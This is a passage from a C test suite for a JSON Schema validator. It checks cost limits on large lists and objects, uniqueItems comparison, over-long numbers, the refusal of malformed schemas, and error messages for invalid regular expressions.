            ok = buf_add(&text, STR("]"));
        if (CHECK(ok) && !CHECK_INT(judge(schema, buf_str(&text)), rows[i].ok ? SCHEMA_CONFORMS : SCHEMA_TOO_COSTLY))
            printf("    %s\n", schema);
    }
    buf_finish(&text);
}

TEST("a long list of short texts is searched to its end")
{
    struct buf text;
    buf_init(&text, 1 << 20);
    bool ok = buf_add(&text, STR("["));
    for (int i = 0; ok && i < 12000; i++)
        ok = buf_addf(&text, "%s\"someone%d@mail.example.org\"", i ? "," : "", i);
    CHECK(ok && buf_add(&text, STR("]")));
    CHECK_INT(judge("{\"items\":{\"format\":\"email\"}}", buf_str(&text)), SCHEMA_CONFORMS);
    buf_finish(&text);
}

/* Members in another order are each looked for among all. */
TEST("objects are compared as long as that is cheap")
{
    struct buf text;
    buf_init(&text, 1 << 20);
    for (int members = 100; members <= 10000; members *= 100) {
        buf_clear(&text);
        bool ok = buf_add(&text, STR("[{"));
        for (int i = 0; ok && i < members; i++)
            ok = buf_addf(&text, "%s\"%d\":1", i ? "," : "", i);
        ok = ok && buf_add(&text, STR("},{"));
        for (int i = members; ok && i-- > 0;)
            ok = buf_addf(&text, "\"%d\":1%s", i, i ? "," : "");
        CHECK(ok && buf_add(&text, STR("}]")));
        CHECK_INT(judge("{\"not\":{\"uniqueItems\":true}}", buf_str(&text)), members == 100 ? SCHEMA_CONFORMS : SCHEMA_TOO_COSTLY);
    }
    buf_finish(&text);
}

TEST("the items of a long list are told apart")
{
    static const struct {
        const char *first;
        bool ok;
    } rows[] = { { "0", true }, { "1e0", false }, { "\"\\u0037\"", false }, { "{\"b\":0.0,\"a\":7}", false }, { "[7,0]", false } };
    struct buf text;
    buf_init(&text, 1 << 20);
    for (size_t i = 0; i < ARRAY_LEN(rows); i++) {
        buf_clear(&text);
        bool ok = buf_addf(&text, "[%s", rows[i].first);
        for (int n = 0; ok && n < 4000; n++)
            ok = buf_addf(&text, ",%d,\"%d\",[%d,0],[0,%d],{\"a\":%d,\"b\":0}", n + 1, n, n, n + 1, n);
        CHECK(ok && buf_add(&text, STR("]")));
        CHECK_INT(judge("{\"uniqueItems\":true}", buf_str(&text)), rows[i].ok ? SCHEMA_CONFORMS : SCHEMA_DIFFERS);
    }
    CHECK_INT(judge("{\"uniqueItems\":true}", STR("[0,-0]")), SCHEMA_DIFFERS);
    CHECK_INT(judge("{\"uniqueItems\":true}", STR("[]")), SCHEMA_CONFORMS);
    buf_finish(&text);
}

TEST("a number of more digits than are read conforms to nothing")
{
    static const char *const schemas[] = { "{\"minimum\":10}", "{\"not\":{\"maximum\":10}}" };
    char value[500];
    snprintf(value, sizeof value, "0.%0420d", 1);
    for (size_t i = 0; i < ARRAY_LEN(schemas); i++)
        CHECK_INT(judge(schemas[i], str_c(value)), SCHEMA_TOO_COSTLY);
}

TEST("a schema with a word that is not kept is refused")
{
    static const char *const bad[] = { "{\"pattern\":\"(a\"}", "{\"pattern\":\"\\\\X{2}\"}", "{\"type\":\"text\"}", "{\"properties\":[]}", "{\"items\":{\"$ref\":\"other.json\"}}",
                                       "{\"maxLength\":-1}", "[]", "{", "{\"enum\":1}", "{\"required\":[1]}", "{\"unevaluatedItems\":false}",
                                       "{\"$ref\":\"#/$defs/none\"}", "{\"format\":\"duration\"}", "{\"patternProperties\":{\"[\":true}}",
                                       "{\"uniqueItems\":1}", "{\"dependentRequired\":{\"a\":\"b\"}}", "{\"dependentSchemas\":{\"a\":1}}",
                                       "{\"$ref\":\"#/default\",\"default\":{\"pattern\":\"a\"}}",
                                       "{\"$ref\":\"#/properties\",\"properties\":{\"pattern\":true}}" };
    struct problems problems;
    problems_init(&problems, STR("t"), STR_NONE);
    for (size_t i = 0; i < ARRAY_LEN(bad); i++) {
        struct json_schema *s = schema_of(bad[i], &problems);
        CHECK(!s);
        CHECK_INT(problems.count, i + 1);
        json_schema_free(s);
    }
    problems_finish(&problems);
}

TEST("what is told of an expression that cannot be kept is the expression")
{
    static const struct {
        const char *schema, *named;
    } bad[] = { { "{\"properties\":{\"a\":{\"pattern\":\"^(k\"}}}", "\"^(k\"" }, { "{\"patternProperties\":{\"k[\":true}}", "\"k[\"" } };
    for (size_t i = 0; i < ARRAY_LEN(bad); i++) {
        struct problems problems;
        problems_init(&problems, STR("t"), STR_NONE);
        CHECK(!schema_of(bad[i].schema, &problems));
        CHECK(problems.count == 1 && strstr(problems.list[0].message, bad[i].named));
        problems_finish(&problems);
    }
}
